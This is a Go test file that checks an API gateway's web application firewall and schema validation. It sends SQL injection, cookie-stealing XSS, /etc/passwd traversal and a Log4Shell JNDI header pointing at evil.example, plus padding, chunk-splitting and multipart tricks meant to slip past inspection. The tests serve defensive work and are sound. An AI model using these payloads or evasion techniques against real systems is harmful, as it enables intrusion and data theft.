package gateway

import (
	"bufio"
	"context"
	"crypto/tls"
	"io"
	"net/http"
	"net/url"
	"os"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/moatless/moatless/internal/config"
	"github.com/moatless/moatless/internal/proxy"
)

// auditFunc is an audit sink given as a function.
type auditFunc func(proxy.DecisionEvent)

func (f auditFunc) Record(_ context.Context, ev proxy.DecisionEvent) { f(ev) }

func TestGatewayWAFBlocks(t *testing.T) {
	var mu sync.Mutex
	var records []proxy.DecisionEvent
	tg := startGateway(t, func(c *config.Gateway) {
		c.Routes[0].WAF = &config.GatewayRouteWAF{Enabled: true}
	})
	tg.g.opts.Audit = auditFunc(func(ev proxy.DecisionEvent) { mu.Lock(); records = append(records, ev); mu.Unlock() })
	const secret = "Bearer s3cr3t-token-value"
	tests := []struct {
		name, method, path, body string
		want                     int
		ctype                    string // default application/json
	}{
		{"benign", "POST", "/orders", `{"item":"book","qty":1}`, 200, ""},
		{"sqli_query", "GET", "/orders?id=" + url.QueryEscape("1' OR '1'='1"), "", 403, ""},
		{"sqli_body", "POST", "/orders", `{"q":"1 UNION SELECT password FROM users--"}`, 403, ""},
		{"xss", "GET", "/orders?q=" + url.QueryEscape("<script>alert(document.cookie)</script>"), "", 403, ""},
		{"traversal", "GET", "/orders?f=" + url.QueryEscape("../../../../etc/passwd"), "", 403, ""},
		{"log4shell_header", "GET", "/orders/1", "", 403, ""},
		// A JSON body labeled XML reaches an app that parses JSON without
		// looking at the type; the WAF reads it as JSON too.
		{"sqli_json_labeled_xml", "POST", "/orders", `{"q":"x\u0027 or 1=1-- "}`, 403, "application/xml"},
		{"benign_json_labeled_xml", "POST", "/orders", `{"item":"book","qty":1}`, 200, "application/xml"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			hdr := map[string]string{"Authorization": secret, "Cookie": "session=cookie-secret-value", "Content-Type": "application/json"}
			if tt.ctype != "" {
				hdr["Content-Type"] = tt.ctype
			}
			if tt.name == "log4shell_header" {
				hdr["X-Api-Version"] = "${jndi:ldap://evil.example/a}"
			}
			var body *strings.Reader
			if tt.body != "" {
				body = strings.NewReader(tt.body)
			} else {
				body = strings.NewReader("")
			}
			resp, b := tg.do(t, tt.method, tt.path, body, hdr)
			if resp.StatusCode != tt.want {
				t.Fatalf("status %d, want %d: %s", resp.StatusCode, tt.want, b)
			}
			checkSecurityHeaders(t, resp.Header)
			if tt.want == 403 && !strings.Contains(string(b), resp.Header.Get("X-Request-Id")) {
				t.Errorf("403 body %s lacks the request ID", b)
			}
		})
	}
	logs := tg.logs.String() + tg.access.String()
	if !strings.Contains(logs, "waf: rules 9") {
		t.Errorf("no decision log naming rule IDs:\n%s", logs)
	}
	for _, leak := range []string{"s3cr3t-token-value", "cookie-secret-value", "UNION SELECT", "jndi"} {
		if strings.Contains(logs, leak) {
			t.Errorf("logs carry %q", leak)
		}
	}
	mu.Lock()
	defer mu.Unlock()
	if len(records) < 5 || !strings.HasPrefix(records[0].Reason, "waf: rules ") || records[0].ReasonCode != "waf" {
		t.Fatalf("audit records %+v", records)
	}
}

func TestGatewayValidation(t *testing.T) {
	schema := t.TempDir() + "/order.json"
	if err := os.WriteFile(schema, []byte(`{"type":"object","required":["item","qty"],"properties":{"item":{"type":"string"},"qty":{"type":"integer","minimum":1}}}`), 0o600); err != nil {
		t.Fatal(err)
	}
	tg := startGateway(t, func(c *config.Gateway) {
		c.Routes[0].Validation = &config.GatewayValidation{JSONSchema: schema}
	})
	resp, b := tg.do(t, "POST", "/orders", strings.NewReader(`{"item":"book","qty":0}`), map[string]string{"Content-Type": "application/json"})
	if resp.StatusCode != 400 || !strings.Contains(string(b), `"pointer":"/qty"`) {
		t.Fatalf("status %d: %s", resp.StatusCode, b)
	}
	checkSecurityHeaders(t, resp.Header)
	resp, b = tg.do(t, "POST", "/orders", strings.NewReader(`{"item":"book","qty":2}`), map[string]string{"Content-Type": "application/json"})
	if resp.StatusCode != 200 || decodeSeen(t, b).Body != `{"item":"book","qty":2}` {
		t.Fatalf("valid body: %d %s", resp.StatusCode, b)
	}
	// A member named twice: the schema checks the last value, an app
	// whose parser keeps the first would get qty 0. Refused.
	resp, b = tg.do(t, "POST", "/orders", strings.NewReader(`{"item":"book","qty":0,"qty":2}`), map[string]string{"Content-Type": "application/json"})
	if resp.StatusCode != 400 || !strings.Contains(string(b), `"pointer":"/qty"`) {
		t.Fatalf("duplicate member: status %d: %s", resp.StatusCode, b)
	}
}

// TestGatewayValidationPathParameters: a path with parameters is
// validated against the OpenAPI operation of each reading, as received
// and as Tomcat, Jetty and Spring read it, and must pass both:
// "/orders/admin;x" is /orders/{id} as received and /orders/admin to a
// Java app, whose stricter body schema applies. Before, every ";" in a
// path was a 400.
func TestGatewayValidationPathParameters(t *testing.T) {
	doc := t.TempDir() + "/api.yaml"
	if err := os.WriteFile(doc, []byte(`
openapi: 3.0.3
info: {title: orders, version: "1"}
paths:
  /orders/{id}:
    post:
      parameters: [{name: id, in: path, required: true, schema: {type: string}}]
      requestBody: {required: true, content: {application/json: {schema: {type: object}}}}
      responses: {"200": {description: ok}}
  /orders/admin:
    post:
      requestBody:
        required: true
        content:
          application/json:
            schema: {type: object, required: [role], additionalProperties: false, properties: {role: {type: string, enum: [reader]}}}
      responses: {"200": {description: ok}}
`), 0o600); err != nil {
		t.Fatal(err)
	}
	tg := startGateway(t, func(c *config.Gateway) {
		c.Routes[0].Validation = &config.GatewayValidation{OpenAPI: doc}
	})
	js := map[string]string{"Content-Type": "application/json"}
	for _, tt := range []struct {
		name, path, body string
		want             int
	}{
		{"jsessionid", "/orders/7;jsessionid=1", `{"note":"x"}`, 200},
		{"admin_valid", "/orders/admin", `{"role":"reader"}`, 200},
		{"admin_invalid", "/orders/admin", `{"role":"root"}`, 400},
		{"admin_invalid_behind_param", "/orders/admin;x", `{"role":"root"}`, 400},
		{"admin_valid_behind_param", "/orders/admin;x", `{"role":"reader"}`, 200},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if resp, b := tg.do(t, "POST", tt.path, strings.NewReader(tt.body), js); resp.StatusCode != tt.want {
				t.Fatalf("status %d, want %d: %s", resp.StatusCode, tt.want, b)
			}
		})
	}
}

// TestGatewayWAFBodyOverInspectLimit: an attack padded past
// waf.max_inspect_bytes (128 KiB by default) does not reach the app, which
// would parse the whole body; before, the rules read the first 128 KiB and
// the gateway forwarded the rest.
func TestGatewayWAFBodyOverInspectLimit(t *testing.T) {
	attack := func(padKiB int) string {
		return "pad=" + strings.Repeat("a", padKiB<<10) + "&q=" + url.QueryEscape("1' or 1=1-- ")
	}
	form := map[string]string{"Content-Type": "application/x-www-form-urlencoded"}
	// The rules read 100-140 KiB values here: under -race on a loaded
	// 2-core machine one inspection took over the client's usual 10 s.
	const inspectTimeout = time.Minute
	t.Run("default_limit", func(t *testing.T) {
		tg := startGateway(t, func(c *config.Gateway) { c.Routes[0].WAF = &config.GatewayRouteWAF{Enabled: true} })
		tg.client.Timeout = inspectTimeout
		for _, tt := range []struct {
			name string
			body string
			want int
		}{
			{"attack_within_limit", attack(100), 403},
			{"attack_past_limit", attack(140), 413},
			{"benign_past_limit", "note=" + strings.Repeat("a", 140<<10), 413},
			{"benign_within_limit", "note=" + strings.Repeat("a", 100<<10), 200},
		} {
			t.Run(tt.name, func(t *testing.T) {
				resp, b := tg.do(t, "POST", "/orders", strings.NewReader(tt.body), form)
				if resp.StatusCode != tt.want {
					t.Fatalf("status %d, want %d: %.200s", resp.StatusCode, tt.want, b)
				}
				checkSecurityHeaders(t, resp.Header)
			})
		}
		if !strings.Contains(tg.access.String(), `"block_reason":"waf"`) {
			t.Errorf("no access-log line with block_reason waf:\n%s", tg.access.String())
		}
	})
	t.Run("raised_limit", func(t *testing.T) {
		tg := startGateway(t, func(c *config.Gateway) {
			c.WAF.MaxInspectBytes = 256 << 10
			c.Routes[0].WAF = &config.GatewayRouteWAF{Enabled: true}
		})
		tg.client.Timeout = inspectTimeout
		if resp, b := tg.do(t, "POST", "/orders", strings.NewReader(attack(140)), form); resp.StatusCode != 403 {
			t.Fatalf("padded attack within a raised limit: status %d: %.200s", resp.StatusCode, b)
		}
	})
}

// TestGatewayWAFTooLargeNotRead: a body longer than the WAF inspects is
// refused without being read whole: at once when its length is announced,
// after max_inspect_bytes + 1 when it is chunked, while the client still
// has the rest to send (before, the gateway read and buffered up to
// max_body_bytes, waiting for a client that waits for the answer).
func TestGatewayWAFTooLargeNotRead(t *testing.T) {
	tg := startGateway(t, func(c *config.Gateway) { c.Routes[0].WAF = &config.GatewayRouteWAF{Enabled: true} })
	const tooLarge = `{"status":413,"error":"request body larger than the web application firewall inspects`
	t.Run("announced", func(t *testing.T) {
		earlyH1(t, tg, "/orders", false, 1<<20, 1000, 5*time.Second, http.StatusRequestEntityTooLarge, tooLarge)
	})
	t.Run("announced_expect", func(t *testing.T) {
		earlyH1(t, tg, "/orders", true, 1<<20, 0, 5*time.Second, http.StatusRequestEntityTooLarge, tooLarge)
	})
	t.Run("chunked", func(t *testing.T) {
		c, err := tls.Dial("tcp", tg.addr, &tls.Config{RootCAs: tg.ca.Pool(), ServerName: "localhost", NextProtos: []string{"http/1.1"}})
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		chunk := strings.Repeat("a", 16<<10)
		msg := "POST /orders HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n"
		for range 9 { // 144 KiB, then the client waits with no end in sight
			msg += strconv.FormatInt(int64(len(chunk)), 16) + "\r\n" + chunk + "\r\n"
		}
		if _, err := io.WriteString(c, msg); err != nil {
			t.Fatal(err)
		}
		c.SetReadDeadline(time.Now().Add(5 * time.Second))
		resp, err := http.ReadResponse(bufio.NewReader(c), nil)
		if err != nil {
			t.Fatalf("no answer while the chunked body is still coming: %v", err)
		}
		b, _ := io.ReadAll(resp.Body)
		if resp.StatusCode != http.StatusRequestEntityTooLarge || !strings.HasPrefix(string(b), tooLarge) {
			t.Fatalf("answer %d %s", resp.StatusCode, b)
		}
	})
	t.Run("h2_announced", func(t *testing.T) {
		h2 := h2Client(tg)
		defer h2.CloseIdleConnections()
		earlyH2(t, h2, tg.url("/orders"), 1<<20, 1000, 5*time.Second, http.StatusRequestEntityTooLarge, tooLarge)
	})
}

// TestGatewayWAFChunkedSplit: an attack split across chunks is inspected
// whole (the WAF reads the body, not its chunks); probed in the review,
// sound.
func TestGatewayWAFChunkedSplit(t *testing.T) {
	tg := startGateway(t, func(c *config.Gateway) { c.Routes[0].WAF = &config.GatewayRouteWAF{Enabled: true} })
	parts := []string{"q=1%27%20o", "r%201%3D", "1--%20"}
	msg := "POST /orders HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n"
	for _, p := range parts {
		msg += strconv.FormatInt(int64(len(p)), 16) + ";ext=\"x\"\r\n" + p + "\r\n"
	}
	if got := tg.raw(t, msg+"0\r\n\r\n"); !strings.HasPrefix(got, "HTTP/1.1 403") {
		t.Fatalf("split attack: %q", firstLine(got))
	}
}

// TestGatewayWAFMultipartOutsideParts: a multipart body with a part the
// rules would not see as one (behind a "--bx" line before the first
// delimiter, or after the close delimiter) is blocked, and the block is
// logged with why; before, it reached the app.
func TestGatewayWAFMultipartOutsideParts(t *testing.T) {
	tg := startGateway(t, func(c *config.Gateway) { c.Routes[0].WAF = &config.GatewayRouteWAF{Enabled: true} })
	atk := "1' or 1=1-- "
	part := func(name, value string) string {
		return "--b\r\nContent-Disposition: form-data; name=\"" + name + "\"\r\n\r\n" + value + "\r\n"
	}
	mp := map[string]string{"Content-Type": "multipart/form-data; boundary=b"}
	for _, tt := range []struct {
		name, body string
		want       int
	}{
		{"benign", part("item", "book") + "--b--\r\n", 200},
		{"part_behind_lookalike", "--bx\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n" + atk + "\r\n" + part("ok", "fine") + "--b--\r\n", 403},
		{"part_after_close", part("ok", "fine") + "--b--\r\n" + part("q", atk) + "--b--\r\n", 403},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if resp, b := tg.do(t, "POST", "/orders", strings.NewReader(tt.body), mp); resp.StatusCode != tt.want {
				t.Fatalf("status %d, want %d: %.200s", resp.StatusCode, tt.want, b)
			}
		})
	}
	if !strings.Contains(tg.logs.String(), "waf: multipart content") && !strings.Contains(tg.logs.String(), "waf: a multipart line") {
		t.Errorf("no decision line saying why:\n%s", tg.logs.String())
	}
}
